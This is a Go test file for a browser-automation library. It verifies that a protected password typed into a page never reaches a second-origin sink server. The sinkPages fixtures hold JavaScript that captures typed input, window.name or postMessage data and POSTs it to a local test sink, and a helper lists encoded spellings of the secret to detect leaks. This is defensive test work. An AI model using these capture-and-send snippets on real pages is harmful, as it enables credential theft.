package browser

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"rote/routine"
)

// strayPassword is the secret that must reach the shop and nobody else.
const strayPassword = "correct-horse-9Battery"

// secretWay is a way in which a secret could leave: something of a page, or what an author does.
// It is tried with a secret of the shop, of which nothing may arrive at the sink. If leaks, it
// is also tried with the same text typed as any text, which must arrive there: otherwise the way
// is none.
type secretWay struct {
	name string
	// page is the body of the shop's page. In all pages SINK is the URL of another origin of the
	// same site, and SHOP that of the page.
	page string
	// site are further pages of the shop.
	site map[string]string
	// do is what the routine does; nil types into #p and clicks #b.
	do    func(a *secretAttempt) error
	leaks bool
	// code and words are of the error with a secret of the shop; empty for none.
	code  routine.Code
	words string
}

// secretAttempt is one try of a way.
type secretAttempt struct {
	*attempt
	typing     routine.Typing
	sink, shop string
	// gave are texts that operations have returned, which count as if the sink had them.
	gave []string
}

func (a *secretAttempt) typeIt() error {
	_, err := a.p.Type(a.ctx, a.typing)
	return err
}

// secretSink is a server that keeps what it gets, by the first part of the path.
type secretSink struct {
	*httptest.Server
	mu  sync.Mutex
	got map[string][]string
}

// sinkPages are the pages that the sink serves. Each sends the text that is typed into it at once.
var sinkPages = map[string]string{
	"frame": `<input id=i><script>i.focus(); onfocus = () => i.focus()
		i.oninput = () => { const x = new XMLHttpRequest(); x.open('POST', 'got', false); x.send(i.value) }</script>`,
	"name":  `<script>fetch('got', {method: 'POST', body: window.name})</script>`,
	"relay": `<script>onmessage = e => fetch('got', {method: 'POST', body: e.data})</script>`,
	"login": `<form action=got method=post><input id=p name=p type=password><button id=b>Log in</button></form>`,
}

func newSecretSink(t *testing.T) *secretSink {
	t.Helper()
	s := &secretSink{got: map[string][]string{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		id, path, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
		body, _ := io.ReadAll(r.Body)
		header, _ := json.Marshal(r.Header)
		s.mu.Lock()
		s.got[id] = append(s.got[id], r.URL.String(), string(header), string(body))
		s.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><meta charset=utf-8><link rel=icon href="data:,"><body>`, sinkPages[path])
	}))
	t.Cleanup(func() { s.CloseClientConnections(); s.Close() })
	return s
}

// has returns a text of the record that has at least half of the secret in some spelling; empty
// if none has.
func (s *secretSink) has(id string, more []string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	parts := secretSpellings(strayPassword)
	for _, text := range append(slices.Clone(s.got[id]), more...) {
		lower := strings.ToLower(text)
		if slices.ContainsFunc(parts, func(part string) bool { return strings.Contains(lower, part) }) {
			return text
		}
	}
	return ""
}

// secretSpellings are the spellings of all halves of a secret, in lower case.
func secretSpellings(secret string) []string {
	var all []string
	half := len(secret) / 2
	for i := 0; i+half <= len(secret); i++ {
		part := secret[i : i+half]
		reversed, codes := []byte(part), make([]string, half)
		slices.Reverse(reversed)
		for n := range half {
			codes[n] = fmt.Sprint(part[n])
		}
		quoted, _ := json.Marshal(part)
		all = append(all, part, string(reversed), url.QueryEscape(part), url.PathEscape(part), html.EscapeString(part), string(quoted[1:len(quoted)-1]),
			hex.EncodeToString([]byte(part)), strings.Join(codes, ","), strings.Join(codes, " "))
		for shift := range 3 { // base64 of a longer text has the part at one of three offsets
			text := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", shift) + part))
			all = append(all, text[4:len(text)-4], strings.NewReplacer("+", "-", "/", "_").Replace(text[4:len(text)-4]))
		}
	}
	for i := range all {
		all[i] = strings.ToLower(all[i])
	}
	return all
}

// shopPage is a body with the URLs of a try.
func shopPage(body, shop, sink string) string {
	at := func(u string) string { return strings.TrimPrefix(u, "http://") }
	return preamble + strings.NewReplacer("SINKHOST", at(sink), "SHOPHOST", strings.SplitN(at(shop), "/", 2)[0], "SINK", sink, "SHOP", shop).Replace(body)
}

// tryWays tries the ways on both browsers.
func tryWays(t *testing.T, ways []secretWay) {
	t.Helper()
	sink := newSecretSink(t)
	shop := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		id, path, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
		number := -1
		_, _ = fmt.Sscanf(id, "%d", &number)
		if number < 0 || number >= len(ways) {
			http.NotFound(w, r)
			return
		}
		body := ways[number].page
		if path != "" {
			body = ways[number].site[path]
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, shopPage(body, "http://"+r.Host+"/"+id, sink.URL+"/"+id))
	}))
	t.Cleanup(func() { shop.CloseClientConnections(); shop.Close() })
	for _, kind := range kinds {
		t.Run(kind.name, func(t *testing.T) {
			b := kind.browser()
			for i, w := range ways {
				if sampled(b, i) {
					continue
				}
				t.Run(w.name, func(t *testing.T) {
					t.Parallel()
					w.try(t, mustOpen(t, b), sink, shop.URL, fmt.Sprintf("%d-%s-secret", i, kind.name), true)
					if w.leaks {
						w.try(t, mustOpen(t, b), sink, shop.URL, fmt.Sprintf("%d-%s-control", i, kind.name), false)
					}
				})
			}
		})
	}
}

// try tries the way once, with the secret of the shop, or with a text that is none.
func (w *secretWay) try(t *testing.T, p *page, sink *secretSink, shop, id string, secret bool) {
	t.Helper()
	a := &secretAttempt{attempt: &attempt{t: t, p: p, ctx: testContext(t), site: shop + "/" + id + "/"}, sink: sink.URL + "/" + id, shop: shop + "/" + id,
		typing: routine.Typing{Selector: "#p", Text: strayPassword}}
	if secret {
		a.typing.Release = &routine.Release{Secret: "shop", Texts: []routine.Hidden{strayPassword},
			Rules: &routine.SecretRules{Hosts: []string{strings.TrimPrefix(shop, "http://")}, Field: routine.FieldPassword}}
	}
	if w.page != "" {
		if _, err := p.Navigate(a.ctx, a.site); err != nil {
			t.Fatal(err)
		}
	}
	do := w.do
	if do == nil {
		do = func(a *secretAttempt) error {
			err := a.typeIt()
			if !strings.Contains(w.page, "id=b") {
				return err
			}
			if err != nil {
				return errorsOrClick(a, err)
			}
			return a.click("#b")
		}
	}
	err := do(a)
	if !secret {
		for deadline := time.Now().Add(testTime / 4); sink.has(id, a.gave) == ""; time.Sleep(time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatalf("this is no way out: a text that is no secret does not arrive: %v", err)
			}
		}
		return
	}
	if w.code != "" {
		wantCode(t, err, w.code, w.words)
	} else if err != nil {
		t.Error(err)
	}
	if _, err := p.Navigate(a.ctx, shop+"/end"); err != nil { // what the page sends until it ends counts
		t.Fatal(err)
	}
	if text := sink.has(id, a.gave); text != "" {
		t.Errorf("the secret has left: %s", text)
	}
}
